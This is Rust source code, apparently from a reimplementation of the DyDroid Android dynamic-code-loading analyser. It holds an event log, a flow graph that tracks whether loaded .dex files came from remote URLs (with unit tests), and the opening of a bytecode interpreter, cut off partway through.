    fn ring_bound_evicts_oldest_and_counts_drops() {
        let mut log = EventLog::new();
        log.set_capacity(3);
        for i in 0..10 {
            log.push(Event::Dcl(dcl(&format!("/d/{i}.dex"))));
        }
        assert_eq!(log.len(), 3);
        assert_eq!(log.dropped_events(), 7);
        let paths: Vec<&str> = log.dcl_events().map(|d| d.path.as_str()).collect();
        assert_eq!(paths, vec!["/d/7.dex", "/d/8.dex", "/d/9.dex"]);
    }

    #[test]
    fn unbounded_log_never_drops() {
        let mut log = EventLog::new();
        for i in 0..100 {
            log.push(Event::Dcl(dcl(&format!("/d/{i}.dex"))));
        }
        assert_eq!(log.len(), 100);
        assert_eq!(log.dropped_events(), 0);
    }

    #[test]
    fn shrinking_capacity_evicts_immediately() {
        let mut log = EventLog::new();
        for i in 0..5 {
            log.push(Event::Dcl(dcl(&format!("/d/{i}.dex"))));
        }
        log.set_capacity(2);
        assert_eq!(log.len(), 2);
        assert_eq!(log.dropped_events(), 3);
        log.clear();
        assert_eq!(log.dropped_events(), 0);
        assert_eq!(log.capacity(), 2);
    }
}
