//! The download tracker's flow graph (Table I).
//!
//! Objects are identified by *type and hash code* exactly as in the paper:
//! `URL`, `InputStream`, `Buffer` and `OutputStream` nodes carry the heap
//! object id; `File` nodes are keyed by path so that copies and renames
//! (`File → File` edges) connect staging locations to final locations.
//! Remote provenance of a loaded binary is decided by searching the graph
//! for a path from any `URL` node to the `File` node of the loaded path.

use std::collections::{HashMap, HashSet, VecDeque};

use serde::{Deserialize, Serialize};

/// A node in the download-tracker flow graph.
#[derive(Debug, Clone, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum FlowNode {
    /// A `java.net.URL` object; carries the URL string.
    Url(String),
    /// An `InputStream` object, by heap id.
    InputStream(u32),
    /// A `Buffer` object, by heap id.
    Buffer(u32),
    /// An `OutputStream` object, by heap id.
    OutputStream(u32),
    /// A file, by absolute path.
    File(String),
}

impl FlowNode {
    /// The URL string, if this is a URL node.
    pub fn as_url(&self) -> Option<&str> {
        match self {
            FlowNode::Url(u) => Some(u),
            _ => None,
        }
    }
}

/// A directed flow graph over [`FlowNode`]s.
#[derive(Debug, Clone, Default, Serialize, Deserialize)]
pub struct FlowGraph {
    edges: HashMap<FlowNode, Vec<FlowNode>>,
    reverse: HashMap<FlowNode, Vec<FlowNode>>,
}

impl FlowGraph {
    /// Creates an empty graph.
    pub fn new() -> Self {
        FlowGraph::default()
    }

    /// Records a flow edge `from → to` (Table I rules produce these).
    pub fn add_edge(&mut self, from: FlowNode, to: FlowNode) {
        self.edges.entry(from.clone()).or_default().push(to.clone());
        self.reverse.entry(to).or_default().push(from);
    }

    /// Number of edges.
    pub fn edge_count(&self) -> usize {
        self.edges.values().map(Vec::len).sum()
    }

    /// All URLs from which data flowed (transitively) into the file at
    /// `path`. Empty when the file's contents are of purely local origin.
    pub fn url_sources(&self, path: &str) -> Vec<String> {
        let start = FlowNode::File(path.to_string());
        let mut seen: HashSet<&FlowNode> = HashSet::new();
        let mut queue: VecDeque<&FlowNode> = VecDeque::new();
        let mut urls = Vec::new();
        if let Some((node, _)) = self.reverse.get_key_value(&start) {
            queue.push_back(node);
            seen.insert(node);
        } else {
            return urls;
        }
        while let Some(node) = queue.pop_front() {
            if let FlowNode::Url(u) = node {
                urls.push(u.clone());
            }
            if let Some(preds) = self.reverse.get(node) {
                for p in preds {
                    if seen.insert(p) {
                        queue.push_back(p);
                    }
                }
            }
        }
        urls.sort();
        urls.dedup();
        urls
    }

    /// Whether the file at `path` is (transitively) derived from a remote
    /// URL — the paper's remote-provenance decision.
    pub fn is_remote(&self, path: &str) -> bool {
        !self.url_sources(path).is_empty()
    }

    /// Clears all edges (between per-app runs).
    pub fn clear(&mut self) {
        self.edges.clear();
        self.reverse.clear();
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Builds the canonical Table I chain:
    /// URL → InputStream → Buffer → OutputStream → File.
    fn download_chain(g: &mut FlowGraph, url: &str, path: &str) {
        g.add_edge(FlowNode::Url(url.to_string()), FlowNode::InputStream(1));
        g.add_edge(FlowNode::InputStream(1), FlowNode::Buffer(2));
        g.add_edge(FlowNode::Buffer(2), FlowNode::OutputStream(3));
        g.add_edge(FlowNode::OutputStream(3), FlowNode::File(path.to_string()));
    }

    #[test]
    fn direct_download_is_remote() {
        let mut g = FlowGraph::new();
        download_chain(&mut g, "http://cdn.x.com/a.dex", "/data/data/a/files/a.dex");
        assert!(g.is_remote("/data/data/a/files/a.dex"));
        assert_eq!(
            g.url_sources("/data/data/a/files/a.dex"),
            vec!["http://cdn.x.com/a.dex"]
        );
    }

    #[test]
    fn rename_propagates_provenance() {
        let mut g = FlowGraph::new();
        download_chain(&mut g, "http://cdn.x.com/a.dex", "/data/data/a/cache/tmp");
        // File -> File edge from a rename.
        g.add_edge(
            FlowNode::File("/data/data/a/cache/tmp".to_string()),
            FlowNode::File("/data/data/a/files/a.dex".to_string()),
        );
        assert!(g.is_remote("/data/data/a/files/a.dex"));
    }

    #[test]
    fn local_file_is_not_remote() {
        let mut g = FlowGraph::new();
        // Asset extraction: File -> InputStream -> Buffer -> OutputStream -> File.
        g.add_edge(
            FlowNode::File("apk:assets/p.bin".to_string()),
            FlowNode::InputStream(1),
        );
        g.add_edge(FlowNode::InputStream(1), FlowNode::Buffer(2));
        g.add_edge(FlowNode::Buffer(2), FlowNode::OutputStream(3));
        g.add_edge(
            FlowNode::OutputStream(3),
            FlowNode::File("/data/data/a/cache/p.dex".to_string()),
        );
        assert!(!g.is_remote("/data/data/a/cache/p.dex"));
        assert!(g.url_sources("/data/data/a/cache/p.dex").is_empty());
    }

    #[test]
    fn multiple_sources_all_reported() {
        let mut g = FlowGraph::new();
        download_chain(&mut g, "http://a.com/1", "/f");
        g.add_edge(
            FlowNode::Url("http://b.com/2".to_string()),
            FlowNode::InputStream(9),
        );
        g.add_edge(FlowNode::InputStream(9), FlowNode::Buffer(2));
        let mut urls = g.url_sources("/f");
        urls.sort();
        assert_eq!(urls, vec!["http://a.com/1", "http://b.com/2"]);
    }

    #[test]
    fn cycles_terminate() {
        let mut g = FlowGraph::new();
        g.add_edge(
            FlowNode::File("/a".to_string()),
            FlowNode::File("/b".to_string()),
        );
        g.add_edge(
            FlowNode::File("/b".to_string()),
            FlowNode::File("/a".to_string()),
        );
        assert!(!g.is_remote("/a"));
        assert!(!g.is_remote("/b"));
    }

    #[test]
    fn unknown_file_not_remote() {
        let g = FlowGraph::new();
        assert!(!g.is_remote("/nope"));
    }

    #[test]
    fn clear_resets() {
        let mut g = FlowGraph::new();
        download_chain(&mut g, "http://a.com/1", "/f");
        assert!(g.edge_count() > 0);
        g.clear();
        assert_eq!(g.edge_count(), 0);
        assert!(!g.is_remote("/f"));
    }
}
