//! The download tracker's flow graph (Table I).
//!
//! Objects are identified by *type and hash code* exactly as in the paper:
//! `URL`, `InputStream`, `Buffer` and `OutputStream` nodes carry the heap
//! object id; `File` nodes are keyed by path so that copies and renames
//! (`File → File` edges) connect staging locations to final locations.
//! Remote provenance of a loaded binary is decided by searching the graph
//! for a path from any `URL` node to the `File` node of the loaded path.

use std::collections::{HashMap, HashSet, VecDeque};

use serde::{Deserialize, Serialize};

/// A node in the download-tracker flow graph.
#[derive(Debug, Clone, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum FlowNode {
    /// A `java.net.URL` object; carries the URL string.
    Url(String),
    /// An `InputStream` object, by heap id.
    InputStream(u32),
    /// A `Buffer` object, by heap id.
    Buffer(u32),
    /// An `OutputStream` object, by heap id.
    OutputStream(u32),
    /// A file, by absolute path.
    File(String),
}

impl FlowNode {
    /// The URL string, if this is a URL node.
    pub fn as_url(&self) -> Option<&str> {
        match self {
            FlowNode::Url(u) => Some(u),
            _ => None,
        }
    }
}

/// Default cap on the number of *distinct* edges a graph will store
/// before it starts dropping new ones (see [`FlowGraph::truncated_edges`]).
pub const DEFAULT_EDGE_CAP: usize = 65_536;

/// A directed flow graph over [`FlowNode`]s.
///
/// Identical `from → to` pairs are stored once with a multiplicity count
/// rather than duplicated, so hot read/write loops (a buffer copied in 4 KiB
/// chunks fires the same `Buffer → OutputStream` rule thousands of times)
/// cost one entry. The number of distinct edges is capped; edges dropped at
/// the cap are counted in [`truncated_edges`](FlowGraph::truncated_edges)
/// so truncation is observable, never silent.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct FlowGraph {
    edges: HashMap<FlowNode, Vec<(FlowNode, u64)>>,
    reverse: HashMap<FlowNode, Vec<FlowNode>>,
    distinct: usize,
    cap: usize,
    duplicates: u64,
    truncated: u64,
}

impl Default for FlowGraph {
    fn default() -> Self {
        FlowGraph {
            edges: HashMap::new(),
            reverse: HashMap::new(),
            distinct: 0,
            cap: DEFAULT_EDGE_CAP,
            duplicates: 0,
            truncated: 0,
        }
    }
}

impl FlowGraph {
    /// Creates an empty graph.
    pub fn new() -> Self {
        FlowGraph::default()
    }

    /// Records a flow edge `from → to` (Table I rules produce these).
    /// A repeat of an existing edge bumps its multiplicity; a new edge past
    /// the cap is dropped and counted in [`truncated_edges`](Self::truncated_edges).
    pub fn add_edge(&mut self, from: FlowNode, to: FlowNode) {
        let out = self.edges.entry(from.clone()).or_default();
        if let Some(slot) = out.iter_mut().find(|(t, _)| *t == to) {
            slot.1 += 1;
            self.duplicates += 1;
            return;
        }
        if self.distinct >= self.cap {
            self.truncated += 1;
            return;
        }
        out.push((to.clone(), 1));
        self.reverse.entry(to).or_default().push(from);
        self.distinct += 1;
    }

    /// Number of distinct edges.
    pub fn edge_count(&self) -> usize {
        self.distinct
    }

    /// Iterates all distinct edges as `(from, to, multiplicity)`.
    pub fn edges(&self) -> impl Iterator<Item = (&FlowNode, &FlowNode, u64)> {
        self.edges
            .iter()
            .flat_map(|(from, outs)| outs.iter().map(move |(to, n)| (from, to, *n)))
    }

    /// How many `add_edge` calls were folded into an existing edge's
    /// multiplicity instead of growing the graph.
    pub fn duplicate_edges(&self) -> u64 {
        self.duplicates
    }

    /// How many distinct edges were dropped because the graph hit its cap.
    pub fn truncated_edges(&self) -> u64 {
        self.truncated
    }

    /// Sets the distinct-edge cap (`0` is treated as "keep nothing new").
    pub fn set_edge_cap(&mut self, cap: usize) {
        self.cap = cap;
    }

    /// All URLs from which data flowed (transitively) into the file at
    /// `path`. Empty when the file's contents are of purely local origin.
    pub fn url_sources(&self, path: &str) -> Vec<String> {
        let start = FlowNode::File(path.to_string());
        let mut seen: HashSet<&FlowNode> = HashSet::new();
        let mut queue: VecDeque<&FlowNode> = VecDeque::new();
        let mut urls = Vec::new();
        if let Some((node, _)) = self.reverse.get_key_value(&start) {
            queue.push_back(node);
            seen.insert(node);
        } else {
            return urls;
        }
        while let Some(node) = queue.pop_front() {
            if let FlowNode::Url(u) = node {
                urls.push(u.clone());
            }
            if let Some(preds) = self.reverse.get(node) {
                for p in preds {
                    if seen.insert(p) {
                        queue.push_back(p);
                    }
                }
            }
        }
        urls.sort();
        urls.dedup();
        urls
    }

    /// Whether the file at `path` is (transitively) derived from a remote
    /// URL — the paper's remote-provenance decision.
    pub fn is_remote(&self, path: &str) -> bool {
        !self.url_sources(path).is_empty()
    }

    /// Clears all edges and counters (between per-app runs). The edge cap
    /// is preserved.
    pub fn clear(&mut self) {
        self.edges.clear();
        self.reverse.clear();
        self.distinct = 0;
        self.duplicates = 0;
        self.truncated = 0;
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Builds the canonical Table I chain:
    /// URL → InputStream → Buffer → OutputStream → File.
    fn download_chain(g: &mut FlowGraph, url: &str, path: &str) {
        g.add_edge(FlowNode::Url(url.to_string()), FlowNode::InputStream(1));
        g.add_edge(FlowNode::InputStream(1), FlowNode::Buffer(2));
        g.add_edge(FlowNode::Buffer(2), FlowNode::OutputStream(3));
        g.add_edge(FlowNode::OutputStream(3), FlowNode::File(path.to_string()));
    }

    #[test]
    fn direct_download_is_remote() {
        let mut g = FlowGraph::new();
        download_chain(&mut g, "http://cdn.x.com/a.dex", "/data/data/a/files/a.dex");
        assert!(g.is_remote("/data/data/a/files/a.dex"));
        assert_eq!(
            g.url_sources("/data/data/a/files/a.dex"),
            vec!["http://cdn.x.com/a.dex"]
        );
    }

    #[test]
    fn rename_propagates_provenance() {
        let mut g = FlowGraph::new();
        download_chain(&mut g, "http://cdn.x.com/a.dex", "/data/data/a/cache/tmp");
        // File -> File edge from a rename.
        g.add_edge(
            FlowNode::File("/data/data/a/cache/tmp".to_string()),
            FlowNode::File("/data/data/a/files/a.dex".to_string()),
        );
        assert!(g.is_remote("/data/data/a/files/a.dex"));
    }

    #[test]
    fn local_file_is_not_remote() {
        let mut g = FlowGraph::new();
        // Asset extraction: File -> InputStream -> Buffer -> OutputStream -> File.
        g.add_edge(
            FlowNode::File("apk:assets/p.bin".to_string()),
            FlowNode::InputStream(1),
        );
        g.add_edge(FlowNode::InputStream(1), FlowNode::Buffer(2));
        g.add_edge(FlowNode::Buffer(2), FlowNode::OutputStream(3));
        g.add_edge(
            FlowNode::OutputStream(3),
            FlowNode::File("/data/data/a/cache/p.dex".to_string()),
        );
        assert!(!g.is_remote("/data/data/a/cache/p.dex"));
        assert!(g.url_sources("/data/data/a/cache/p.dex").is_empty());
    }

    #[test]
    fn multiple_sources_all_reported() {
        let mut g = FlowGraph::new();
        download_chain(&mut g, "http://a.com/1", "/f");
        g.add_edge(
            FlowNode::Url("http://b.com/2".to_string()),
            FlowNode::InputStream(9),
        );
        g.add_edge(FlowNode::InputStream(9), FlowNode::Buffer(2));
        let mut urls = g.url_sources("/f");
        urls.sort();
        assert_eq!(urls, vec!["http://a.com/1", "http://b.com/2"]);
    }

    #[test]
    fn cycles_terminate() {
        let mut g = FlowGraph::new();
        g.add_edge(
            FlowNode::File("/a".to_string()),
            FlowNode::File("/b".to_string()),
        );
        g.add_edge(
            FlowNode::File("/b".to_string()),
            FlowNode::File("/a".to_string()),
        );
        assert!(!g.is_remote("/a"));
        assert!(!g.is_remote("/b"));
    }

    #[test]
    fn unknown_file_not_remote() {
        let g = FlowGraph::new();
        assert!(!g.is_remote("/nope"));
    }

    #[test]
    fn duplicate_edges_are_count_annotated_not_duplicated() {
        let mut g = FlowGraph::new();
        for _ in 0..1000 {
            g.add_edge(FlowNode::Buffer(2), FlowNode::OutputStream(3));
        }
        assert_eq!(g.edge_count(), 1);
        assert_eq!(g.duplicate_edges(), 999);
        let (_, _, n) = g.edges().next().unwrap();
        assert_eq!(n, 1000);
    }

    #[test]
    fn edge_cap_truncates_and_counts() {
        let mut g = FlowGraph::new();
        g.set_edge_cap(3);
        for i in 0..10u32 {
            g.add_edge(FlowNode::InputStream(i), FlowNode::Buffer(100 + i));
        }
        assert_eq!(g.edge_count(), 3);
        assert_eq!(g.truncated_edges(), 7);
        // Repeats of a retained edge still count-annotate past the cap.
        g.add_edge(FlowNode::InputStream(0), FlowNode::Buffer(100));
        assert_eq!(g.edge_count(), 3);
        assert_eq!(g.duplicate_edges(), 1);
    }

    #[test]
    fn truncation_does_not_fabricate_provenance() {
        let mut g = FlowGraph::new();
        g.set_edge_cap(4);
        download_chain(&mut g, "http://a.com/1", "/f");
        // The chain consumed the whole cap; a second download is dropped.
        download_chain(&mut g, "http://b.com/2", "/g");
        assert!(g.is_remote("/f"));
        assert!(!g.is_remote("/g"));
        assert!(g.truncated_edges() > 0);
    }

    #[test]
    fn clear_resets_counters() {
        let mut g = FlowGraph::new();
        g.set_edge_cap(1);
        g.add_edge(FlowNode::Buffer(1), FlowNode::Buffer(1));
        g.add_edge(FlowNode::Buffer(1), FlowNode::Buffer(1));
        g.add_edge(FlowNode::Buffer(1), FlowNode::Buffer(2));
        assert_eq!(g.duplicate_edges(), 1);
        assert_eq!(g.truncated_edges(), 1);
        g.clear();
        assert_eq!(g.duplicate_edges(), 0);
        assert_eq!(g.truncated_edges(), 0);
        assert_eq!(g.edge_count(), 0);
    }

    #[test]
    fn clear_resets() {
        let mut g = FlowGraph::new();
        download_chain(&mut g, "http://a.com/1", "/f");
        assert!(g.edge_count() > 0);
        g.clear();
        assert_eq!(g.edge_count(), 0);
        assert!(!g.is_remote("/f"));
    }
}
