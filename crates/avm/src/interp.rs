//! The bytecode interpreter.
//!
//! Executes the [`dydroid_dex`] ISA with a real call stack so that the DCL
//! logger can attribute loads to their call-site class via the Java stack
//! trace, exactly as DyDroid does (Figure 2 of the paper).
//!
//! # Calling convention
//!
//! Parameters are passed in the low registers: for instance methods
//! `v0 = this, v1.. = params`; for static methods `v0.. = params`. The
//! frame size is the method's declared register count.
//!
//! # Two execution paths
//!
//! The **fast path** (default) runs each method's pre-resolved
//! [`crate::resolved::RInsn`] stream: interned operands, per-site inline
//! caches for invoke/field/static resolution, pooled register files and
//! an arena heap — no strings and no hash map on the hot loop. The
//! **legacy path** (`DeviceConfig::legacy_interp`) is the original
//! string-resolving interpreter, kept as the reference implementation;
//! both decrement fuel identically per instruction and produce
//! bit-identical outcomes, which `tests/avm_differential.rs` enforces.

use dydroid_dex::{AccessFlags, Instruction, InvokeKind, Method};

use crate::device::Device;
use crate::error::Exec;
use crate::heap::{ObjId, Value};
use crate::intrinsics;
use crate::process::Process;
use crate::resolved::{RInsn, ResolvedCall, ResolvedMethod, IC_EMPTY, IC_NO_RECEIVER};
use crate::sym::Sym;

/// Maximum instructions executed per entry point (infinite-loop guard —
/// the Monkey must survive hostile apps).
pub const DEFAULT_FUEL: u64 = 200_000;
/// Maximum interpreter call depth.
pub const MAX_DEPTH: usize = 64;

/// An executing virtual machine, borrowing the device and process.
pub struct Vm<'a> {
    /// The device (filesystem, network, hooks, log).
    pub device: &'a mut Device,
    /// The running process (heap, class spaces, statics).
    pub proc: &'a mut Process,
    /// Remaining instruction budget.
    pub fuel: u64,
    /// App-level call stack, outermost first: interned `(class, method)`
    /// frames. Strings are materialized only at error/event boundaries
    /// ([`Vm::caller_class`], [`Vm::stack_trace`]).
    pub call_stack: Vec<(Sym, Sym)>,
    legacy: bool,
}

impl<'a> Vm<'a> {
    /// Creates a VM with the default fuel budget. The execution path
    /// (fast or legacy) follows the device's `legacy_interp` flag.
    pub fn new(device: &'a mut Device, proc: &'a mut Process) -> Self {
        let legacy = device.legacy_interp();
        Vm {
            device,
            proc,
            fuel: DEFAULT_FUEL,
            call_stack: Vec::new(),
            legacy,
        }
    }

    /// The package of the running process.
    pub fn package(&self) -> &str {
        &self.proc.package
    }

    /// The class of the innermost app frame (the DCL call site).
    /// Borrowed — hook sites that only inspect the class pay no
    /// allocation; those that store it convert exactly once.
    pub fn caller_class(&self) -> &str {
        self.call_stack
            .last()
            .map(|(c, _)| self.proc.interner.resolve(*c))
            .unwrap_or("<none>")
    }

    /// The app stack trace, innermost first, as `class->method` strings.
    pub fn stack_trace(&self) -> Vec<String> {
        self.call_stack
            .iter()
            .rev()
            .map(|(c, m)| {
                format!(
                    "{}->{}",
                    self.proc.interner.resolve(*c),
                    self.proc.interner.resolve(*m)
                )
            })
            .collect()
    }

    /// Runs a public entry point: allocates a receiver (running `<init>`
    /// when present), then invokes `method`.
    ///
    /// # Errors
    ///
    /// Returns the [`Exec`] outcome of any in-app failure.
    pub fn call_entry(&mut self, class: &str, method: &str) -> Result<Value, Exec> {
        let fuel_at_entry = self.fuel;
        let result = self.call_entry_inner(class, method);
        // Charge the device-level instruction counter on the way out —
        // whatever the outcome — so the telemetry layer sees retired
        // instructions even though processes are dropped inside the
        // Monkey before the pipeline can read them.
        self.device
            .charge_instructions(fuel_at_entry.saturating_sub(self.fuel));
        result
    }

    fn call_entry_inner(&mut self, class: &str, method: &str) -> Result<Value, Exec> {
        let def = self
            .proc
            .find_class(class)
            .ok_or_else(|| Exec::Throw(format!("ClassNotFoundException: {class}")))?;
        let is_static = def
            .method_by_name(method)
            .map(|m| m.flags.contains(AccessFlags::STATIC))
            .unwrap_or(false);
        if is_static {
            return self.invoke_resolved(class, method, Vec::new());
        }
        let cls = self.proc.interner.intern(class);
        let this = self.proc.heap.alloc(cls);
        if self.proc.resolve_method(class, "<init>").is_some() {
            self.invoke_resolved(class, "<init>", vec![Value::Obj(this)])?;
        }
        self.invoke_resolved(class, method, vec![Value::Obj(this)])
    }

    /// Invokes `class.method(args)` with full dispatch: intrinsics for
    /// framework classes, app class spaces otherwise, JNI for `native`
    /// methods. `args` includes the receiver for instance calls.
    ///
    /// # Errors
    ///
    /// Returns [`Exec`] on in-app failure.
    pub fn invoke_resolved(
        &mut self,
        class: &str,
        method: &str,
        args: Vec<Value>,
    ) -> Result<Value, Exec> {
        if self.call_stack.len() >= MAX_DEPTH {
            return Err(Exec::StackOverflow);
        }
        // Framework classes dispatch to intrinsics (boot class loader wins,
        // as on real Android).
        if is_framework_class(class) {
            let mref = dydroid_dex::MethodRef {
                class: class.to_string(),
                name: method.to_string(),
                sig: dydroid_dex::MethodSig::void(),
            };
            return intrinsics::dispatch(self, &mref, &args);
        }
        if self.legacy {
            return self.invoke_app_legacy(class, method, args);
        }
        let c = self.proc.interner.intern(class);
        let m = self.proc.interner.intern(method);
        self.invoke_app_fast(c, m, args, None)
    }

    /// The reference app-method dispatch: string-keyed virtual
    /// resolution on every call, executing the original instruction
    /// stream.
    fn invoke_app_legacy(
        &mut self,
        class: &str,
        method: &str,
        args: Vec<Value>,
    ) -> Result<Value, Exec> {
        // Virtual dispatch: start at the receiver's runtime class.
        let start_class = args
            .first()
            .and_then(|v| v.as_obj())
            .and_then(|id| self.proc.heap.get(id))
            .map(|o| o.class)
            .map(|s| self.proc.interner.resolve(s).to_string())
            .filter(|c| self.proc.resolve_method(c, method).is_some())
            .unwrap_or_else(|| class.to_string());
        let (_def_class, m) = self
            .proc
            .resolve_method(&start_class, method)
            .ok_or_else(|| {
                if self.proc.find_class(&start_class).is_none() {
                    Exec::Throw(format!("ClassNotFoundException: {start_class}"))
                } else {
                    Exec::Throw(format!("NoSuchMethodError: {start_class}.{method}"))
                }
            })?;

        if m.flags.contains(AccessFlags::NATIVE) {
            return self.invoke_native(&start_class, &m, args);
        }

        let frame = (
            self.proc.interner.intern(&start_class),
            self.proc.interner.intern(method),
        );
        self.call_stack.push(frame);
        let result = self.execute_legacy(&m, args);
        self.call_stack.pop();
        result
    }

    /// The fast app-method dispatch: interned names, a positive
    /// resolution cache, and (for bytecode invoke sites) a monomorphic
    /// per-site inline cache keyed by the receiver's runtime class.
    fn invoke_app_fast(
        &mut self,
        class: Sym,
        method: Sym,
        args: Vec<Value>,
        site: Option<u32>,
    ) -> Result<Value, Exec> {
        if self.call_stack.len() >= MAX_DEPTH {
            return Err(Exec::StackOverflow);
        }
        let receiver = args
            .first()
            .and_then(|v| v.as_obj())
            .and_then(|id| self.proc.heap.get(id))
            .map(|o| o.class);
        let key = receiver.map(|s| s.0).unwrap_or(IC_NO_RECEIVER);
        if let Some(site) = site {
            let ic = &self.proc.ics.calls[site as usize];
            if ic.key == key {
                if let Some(target) = ic.target.clone() {
                    let pushed = ic.pushed;
                    self.proc.ics.stats.call_hits += 1;
                    return self.run_call(pushed, method, target, args);
                }
            }
            self.proc.ics.stats.call_misses += 1;
        }
        // Miss: resolve exactly like the legacy path — the receiver's
        // runtime class if it resolves the method, else the static class.
        let (start, cacheable) = match receiver {
            Some(r) => {
                if self.proc.resolve_call(r, method).is_some() {
                    (r, true)
                } else {
                    // The receiver class exists but does not (yet)
                    // resolve the method; a later DCL load could change
                    // that, so this outcome must not be cached.
                    (class, false)
                }
            }
            None => (class, true),
        };
        let Some(target) = self.proc.resolve_call(start, method) else {
            let start_s = self.proc.interner.resolve(start).to_string();
            return Err(if self.proc.find_class(&start_s).is_none() {
                Exec::Throw(format!("ClassNotFoundException: {start_s}"))
            } else {
                let method_s = self.proc.interner.resolve(method);
                Exec::Throw(format!("NoSuchMethodError: {start_s}.{method_s}"))
            });
        };
        if let Some(site) = site {
            if cacheable {
                let ic = &mut self.proc.ics.calls[site as usize];
                ic.key = key;
                ic.pushed = start;
                ic.target = Some(target.clone());
            }
        }
        self.run_call(start, method, target, args)
    }

    /// Executes a resolved target, maintaining the interned call stack.
    fn run_call(
        &mut self,
        pushed_class: Sym,
        method: Sym,
        target: ResolvedCall,
        args: Vec<Value>,
    ) -> Result<Value, Exec> {
        match target {
            ResolvedCall::Bytecode(rm) => {
                self.call_stack.push((pushed_class, method));
                let result = self.execute_fast(&rm, args);
                self.call_stack.pop();
                result
            }
            ResolvedCall::Native { name, ret } => {
                let lib_idx = self
                    .proc
                    .native_libs
                    .iter()
                    .rposition(|l| l.function(&name).map(|f| f.exported).unwrap_or(false));
                match lib_idx {
                    Some(idx) => {
                        self.call_stack.push((pushed_class, method));
                        let result = crate::nativerun::run_native(self, idx, &name);
                        self.call_stack.pop();
                        result?;
                        Ok(ret)
                    }
                    None => {
                        let c = self.proc.interner.resolve(pushed_class);
                        let n = self.proc.interner.resolve(method);
                        Err(Exec::Throw(format!("UnsatisfiedLinkError: {c}.{n}")))
                    }
                }
            }
        }
    }

    /// Dispatches a `native` app method through the loaded libraries:
    /// the symbol is the bare method name; libraries are searched in
    /// reverse load order (most recent wins).
    fn invoke_native(
        &mut self,
        class: &str,
        method: &Method,
        _args: Vec<Value>,
    ) -> Result<Value, Exec> {
        let lib_idx = self.proc.native_libs.iter().rposition(|l| {
            l.function(&method.name)
                .map(|f| f.exported)
                .unwrap_or(false)
        });
        match lib_idx {
            Some(idx) => {
                let frame = (
                    self.proc.interner.intern(class),
                    self.proc.interner.intern(&method.name),
                );
                self.call_stack.push(frame);
                let result = crate::nativerun::run_native(self, idx, &method.name);
                self.call_stack.pop();
                result?;
                Ok(default_return(method))
            }
            None => Err(Exec::Throw(format!(
                "UnsatisfiedLinkError: {}.{}",
                class, method.name
            ))),
        }
    }

    /// Pops a recycled register file from the process pool, sized and
    /// zeroed for `registers`, with `args` moved into the low registers.
    fn frame_regs(&mut self, registers: u16, args: Vec<Value>) -> Vec<Value> {
        let mut regs = self.proc.reg_pool.pop().unwrap_or_default();
        regs.clear();
        regs.resize(registers as usize, Value::Null);
        for (i, arg) in args.into_iter().enumerate() {
            if i < regs.len() {
                regs[i] = arg;
            }
        }
        regs
    }

    fn execute_legacy(&mut self, method: &Method, args: Vec<Value>) -> Result<Value, Exec> {
        let mut regs = self.frame_regs(method.registers, args);
        let result = self.run_legacy(method, &mut regs);
        regs.clear();
        self.proc.reg_pool.push(regs);
        result
    }

    fn run_legacy(&mut self, method: &Method, regs: &mut [Value]) -> Result<Value, Exec> {
        let mut pc: usize = 0;
        let mut last_result = Value::Null;
        let code = &method.code;
        loop {
            if self.fuel == 0 {
                return Err(Exec::OutOfFuel);
            }
            self.fuel -= 1;
            let Some(insn) = code.get(pc) else {
                // Falling off the end is a void return.
                return Ok(Value::Null);
            };
            match insn {
                Instruction::Nop => pc += 1,
                Instruction::Const { dst, value } => {
                    regs[*dst as usize] = Value::Int(*value);
                    pc += 1;
                }
                Instruction::ConstString { dst, value } => {
                    regs[*dst as usize] = Value::Str(value.clone());
                    pc += 1;
                }
                Instruction::ConstNull { dst } => {
                    regs[*dst as usize] = Value::Null;
                    pc += 1;
                }
                Instruction::Move { dst, src } => {
                    regs[*dst as usize] = regs[*src as usize].clone();
                    pc += 1;
                }
                Instruction::MoveResult { dst } => {
                    regs[*dst as usize] = last_result.clone();
                    pc += 1;
                }
                Instruction::NewInstance { dst, class } => {
                    let cls = self.proc.interner.intern(class);
                    let id = self.proc.heap.alloc(cls);
                    regs[*dst as usize] = Value::Obj(id);
                    pc += 1;
                }
                Instruction::Invoke {
                    kind,
                    method: mref,
                    args,
                } => {
                    let argv: Vec<Value> = args.iter().map(|r| regs[*r as usize].clone()).collect();
                    if kind.has_receiver() {
                        match argv.first() {
                            Some(Value::Null) | None => {
                                return Err(Exec::Throw(format!(
                                    "NullPointerException: invoking {}.{}",
                                    mref.class, mref.name
                                )));
                            }
                            _ => {}
                        }
                    }
                    last_result = self.dispatch_invoke(*kind, mref, argv)?;
                    pc += 1;
                }
                Instruction::IGet { dst, obj, field } => {
                    let fsym = self.proc.interner.intern(&field.name);
                    let id = regs[*obj as usize]
                        .as_obj()
                        .ok_or_else(|| npe("iget", &field.name))?;
                    let object = self
                        .proc
                        .heap
                        .get(id)
                        .ok_or_else(|| npe("iget", &field.name))?;
                    regs[*dst as usize] = object.field(fsym).cloned().unwrap_or(Value::Null);
                    pc += 1;
                }
                Instruction::IPut { src, obj, field } => {
                    let fsym = self.proc.interner.intern(&field.name);
                    let value = regs[*src as usize].clone();
                    let id = regs[*obj as usize]
                        .as_obj()
                        .ok_or_else(|| npe("iput", &field.name))?;
                    let object = self
                        .proc
                        .heap
                        .get_mut(id)
                        .ok_or_else(|| npe("iput", &field.name))?;
                    object.put_field(fsym, value);
                    pc += 1;
                }
                Instruction::SGet { dst, field } => {
                    regs[*dst as usize] = self
                        .proc
                        .statics
                        .get(&(field.class.clone(), field.name.clone()))
                        .cloned()
                        .unwrap_or(Value::Null);
                    pc += 1;
                }
                Instruction::SPut { src, field } => {
                    self.proc.statics.insert(
                        (field.class.clone(), field.name.clone()),
                        regs[*src as usize].clone(),
                    );
                    pc += 1;
                }
                Instruction::IfZero { cmp, reg, target } => {
                    let v = int_for_cmp(&regs[*reg as usize]);
                    if cmp.eval(v, 0) {
                        pc = *target as usize;
                    } else {
                        pc += 1;
                    }
                }
                Instruction::IfCmp { cmp, a, b, target } => {
                    let av = int_for_cmp(&regs[*a as usize]);
                    let bv = int_for_cmp(&regs[*b as usize]);
                    if cmp.eval(av, bv) {
                        pc = *target as usize;
                    } else {
                        pc += 1;
                    }
                }
                Instruction::Goto { target } => pc = *target as usize,
                Instruction::BinOp { op, dst, a, b } => {
